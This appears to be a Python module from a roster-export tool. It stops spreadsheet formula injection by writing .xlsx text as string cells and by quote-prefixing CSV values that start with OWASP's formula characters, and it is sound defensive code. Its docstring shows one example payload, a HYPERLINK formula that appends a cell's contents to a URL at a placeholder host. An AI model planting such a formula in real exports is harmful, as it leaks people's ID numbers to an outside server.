"""How a value goes into a spreadsheet cell: text stays text, never a formula.

Names and addresses come from rosters anyone can write. A cell holding
`=HYPERLINK("http://x/?"&A1, "点击")` would run as a formula when a supervisor opens the
export or the 台账 in Excel or WPS, and could send a row's ID numbers away (CSV
injection, OWASP). So:

- in .xlsx every text value is written as a string cell (`t="s"`/inline string), which
  no spreadsheet evaluates, whatever its first character;
- in CSV, which has no cell types, a text value that a spreadsheet would read as a
  formula (first character `=`, `+`, `-`, `@`, tab or carriage return: OWASP's list) is
  prefixed with a single quote, as OWASP advises; the rest is quoted by the csv module.
"""

from __future__ import annotations

import re
from typing import Any

# OWASP "CSV Injection": the characters that start a formula in Excel, LibreOffice, WPS.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What XML 1.0 cannot hold (openpyxl refuses to write it): control characters but tab,
# newline and carriage return.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_value(value: Any) -> Any:
    """A value for a CSV cell: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_value(v) for v in values]


def text_cell(sheet: Any, value: Any, *, number_format: str | None = None) -> Any:
    """A write-only .xlsx cell holding `value` as a string, never as a formula.

    openpyxl turns any text starting with `=` into a formula cell; the data type is set
    back to string after the value, which is what its writer then emits."""
    from openpyxl.cell import WriteOnlyCell

    text = _ILLEGAL.sub("\ufffd", str(value))
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    if number_format is not None:
        cell.number_format = number_format
    return cell


def xlsx_value(sheet: Any, value: Any) -> Any:
    """What to append to a write-only sheet for `value`: text as a string cell, anything
    else (numbers, dates, cells already made, None) as it is."""
    if isinstance(value, str):
        return text_cell(sheet, value)
    return value
